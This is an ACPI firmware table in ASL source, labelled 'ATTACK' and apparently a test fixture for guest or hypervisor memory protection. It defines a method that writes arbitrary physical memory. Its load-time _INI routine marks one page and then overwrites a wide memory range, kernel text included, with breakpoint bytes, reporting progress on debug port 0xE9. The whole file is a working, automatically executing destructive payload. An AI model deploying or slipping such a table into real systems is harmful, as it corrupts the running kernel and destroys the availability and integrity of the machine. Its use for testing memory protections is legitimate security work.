// Writes into the guest's memory: one page, looking whether it is changed, then all over, the kernel's text included.
DefinitionBlock ("", "SSDT", 2, "ATTACK", "WRITE", 1)
{
    Device (\_SB.ATWR)
    {
        Name (_HID, "ATCK0002")
        OperationRegion (PORT, SystemIO, 0xE9, 1)
        Field (PORT, ByteAcc, NoLock, Preserve) { OUTB, 8 }

        Method (POKE, 2, Serialized)
        {
            OperationRegion (WORD, SystemMemory, Arg0, 8)
            Field (WORD, QWordAcc, NoLock, Preserve) { VALU, 64 }
            VALU = Arg1
            Return (VALU)
        }

        Method (_INI, 0, Serialized)
        {
            OUTB = 0x77 // w: it runs
            If (POKE (0x18002000, 0x6B6361747461) == 0x6B6361747461)
            {
                OUTB = 0x57 // W: it has written
            }
            // Wherever the kernel has put itself, its text lies in the way.
            Local0 = 0x01000000
            While (Local0 < 0x18000000)
            {
                POKE (Local0, 0xCCCCCCCCCCCCCCCC)
                Local0 += 0x4000
            }
        }
    }
}
